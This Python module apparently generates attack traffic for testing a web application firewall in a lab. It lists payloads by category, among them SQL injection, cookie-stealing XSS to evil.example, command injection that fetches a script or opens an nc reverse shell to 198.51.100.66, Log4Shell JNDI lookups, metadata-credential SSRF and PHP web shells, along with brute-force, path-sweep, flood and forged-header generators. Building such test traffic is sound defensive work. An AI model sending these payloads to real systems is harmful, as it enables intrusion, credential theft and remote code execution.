"""Attacks of every kind that the WAF tells apart, each as the request that somebody out there really sends."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from random import Random
from urllib.parse import quote, quote_plus

from lab.origin import CLOUD, SHOP, WIKI


@dataclass(frozen=True)
class Sent:
    """A request to send; `path` as it goes over the wire."""

    host: str
    path: str
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_XML = {"Content-Type": "application/xml"}
_JSON = {"Content-Type": "application/json"}


def _get(host: str, path: str, value: str) -> Sent:
    """A value in a query; `path` ends in the `=` before it."""
    return Sent(host, path + quote(value, safe="/:"))


def _post(host: str, path: str, name: str, value: str) -> Sent:
    return Sent(host, path, "POST", _FORM, f"{name}={quote_plus(value)}".encode())


def _header(host: str, path: str, name: str, value: str) -> Sent:
    return Sent(host, path, headers={name: value})


#: Category → requests that are attacks of that category.
ATTACKS: dict[str, tuple[Sent, ...]] = {
    "sqli": (
        _get(SHOP, "/search?q=", "kettle' UNION SELECT name, password FROM users-- "),
        _get(SHOP, "/search?id=", "1' OR '1'='1"),
        _get(WIKI, "/search?q=", "1; DROP TABLE articles; --"),
        _post(SHOP, "/basket", "item", "1 AND SLEEP(5)"),
        _post(SHOP, "/order", "coupon", "x' OR 1=1 LIMIT 1 -- -"),
    ),
    "xss": (
        _get(SHOP, "/search?q=", "<script>alert(document.cookie)</script>"),
        _get(WIKI, "/search?q=", "\"><img src=x onerror=fetch('//evil.example/'+document.cookie)>"),
        _post(SHOP, "/reviews", "text", "<svg/onload=alert(1)>"),
        _get(SHOP, "/basket?next=", "javascript:alert(document.domain)"),
    ),
    "path_traversal": (
        _get(CLOUD, "/download/report?file=", "../../../../../../srv/data/report.txt"),
        Sent(SHOP, "/static/..%2f..%2f..%2f..%2fsrv%2fshop%2forders.csv"),
        Sent(WIKI, "/wiki/%252e%252e%252f%252e%252e%252f%252e%252e%252fdata"),
    ),
    "lfi": (
        _get(WIKI, "/?page=", "/etc/passwd"),
        _get(WIKI, "/?page=", "php://filter/convert.base64-encode/resource=index.php"),
        _get(SHOP, "/static/?theme=", "....//....//etc/shadow"),
        Sent(CLOUD, "/.git/config"),
    ),
    "rfi": (
        _get(WIKI, "/?page=", "http://198.51.100.66/shell.txt?"),
        _get(WIKI, "/index?include=", "https://evil.example/c99.php"),
    ),
    "rce": (
        _get(CLOUD, "/api/v1/status?host=", "127.0.0.1; cat /etc/passwd"),
        _get(CLOUD, "/api/v1/status?host=", "$(wget -qO- http://198.51.100.66/x.sh | sh)"),
        _post(SHOP, "/order", "name", "a`id`b && nc -e /bin/sh 198.51.100.66 4444"),
    ),
    "ssrf": (
        _get(CLOUD, "/api/v1/fetch?url=", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        _get(CLOUD, "/api/v1/fetch?url=", "gopher://127.0.0.1:6379/_FLUSHALL"),
        Sent(CLOUD, "/api/v1/notes", "POST", _JSON, b'{"webhook": "http://127.0.0.1:8080/admin"}'),
    ),
    "xxe": (
        Sent(
            CLOUD,
            "/upload",
            "POST",
            _XML,
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        ),
        Sent(
            CLOUD,
            "/upload",
            "POST",
            _XML,
            b'<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><r/>',
        ),
    ),
    "log4shell": (
        _header(SHOP, "/", "User-Agent", "${jndi:ldap://198.51.100.66:1389/a}"),
        _get(SHOP, "/search?q=", "${${lower:j}ndi:${lower:l}dap://evil.example/x}"),
    ),
    "shellshock": (
        _header(CLOUD, "/cgi-bin/status", "User-Agent", "() { :; }; echo; /bin/cat /etc/passwd"),
        _header(SHOP, "/", "Referer", "() { ignored; }; /usr/bin/id"),
    ),
    "nosqli": (
        Sent(SHOP, "/login", "POST", _JSON, b'{"user": {"$ne": null}, "password": {"$gt": ""}}'),
        Sent(SHOP, "/login?user[$ne]=x&password[$regex]=.*"),
    ),
    "ssti": (
        _get(WIKI, "/search?q=", "{{7*7}}{{config.__class__.__init__.__globals__}}"),
        _post(SHOP, "/reviews", "text", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ),
    "ldap": (
        _post(SHOP, "/login", "user", "*)(uid=*))(|(uid=*"),
        _get(WIKI, "/search?author=", "admin)(&(objectClass=*))"),
    ),
    "crlf": (
        Sent(SHOP, "/basket?next=%2F%0d%0aSet-Cookie:%20session=stolen"),
        Sent(WIKI, "/?lang=en%0d%0aLocation:%20https://evil.example/"),
    ),
    "php": (
        _post(WIKI, "/edit/Home", "text", "<?php system($_GET['c']); ?>"),
        _get(WIKI, "/?-d+allow_url_include=1&x=", "<?= eval(base64_decode($_POST[0])) ?>"),
        _post(SHOP, "/basket", "data", 'O:8:"Customer":1:{s:4:"role";s:5:"admin";}'),
    ),
    "java": (
        _post(
            SHOP,
            "/order",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "%{c2}i Runtime.getRuntime()",
        ),
        _post(CLOUD, "/api/v1/notes", "data", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="),
    ),
    "scanner": (
        _header(SHOP, "/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        _header(WIKI, "/", "User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"),
    ),
    "protocol": (
        _get(SHOP, "/search?q=", "%n%n%n%s%s%x%x%n"),
        Sent(WIKI, "/search?q=a%00.html%01%02"),
    ),
}

_WORDS = ("admin", "backup", "old", "test", "config", "api", "dev", "db", "private", "phpinfo", "jenkins", "solr")
_MORE_WORDS = ("wp-login", "server-status", "console", "shop1")


def login_guesses(dice: Random) -> Iterator[Sent]:
    """Passwords tried on one account, one after another."""
    for number in range(12):
        guess = dice.choice(("123456", "password", "qwerty", "letmein", "summer")) + str(number)
        yield Sent(SHOP, "/login", "POST", _FORM, f"user=anna&password={guess}".encode())


def path_sweep(dice: Random) -> Iterator[Sent]:
    """Places that might be there, asked for as by somebody who only looks around."""
    for word in dice.sample((*_WORDS, *_MORE_WORDS), 14):
        yield Sent(CLOUD, f"/{word}/{dice.randrange(1000)}")


def flood(dice: Random) -> Iterator[Sent]:
    """More requests of one address than anybody opens pages; it ends when they are refused."""
    for _ in range(600):
        yield Sent(CLOUD, f"/download/{dice.randrange(100)}")


#: What shows only in many requests of one address. Kind → (the requests, the category it is told as).
SERIES = {
    "login_guesses": (login_guesses, "brute_force"),
    "path_sweep": (path_sweep, "scanner"),
    "flood": (flood, "rate_limit"),
}


def forged(dice: Random) -> dict[str, str]:
    """Headers of somebody who would like another to be blamed."""
    victim = dice.choice(("192.168.1.100", "198.51.100.10", "2001:db8:1::1", "127.0.0.1"))
    return dice.choice(
        (
            {"X-Forwarded-For": victim},
            {"X-Forwarded-For": f"{victim}, 127.0.0.1"},
            {"X-Real-IP": victim, "Forwarded": f"for={victim}"},
            {"X-Forwarded-For": victim, "X-DPI-Client-Port": "1"},
        )
    )
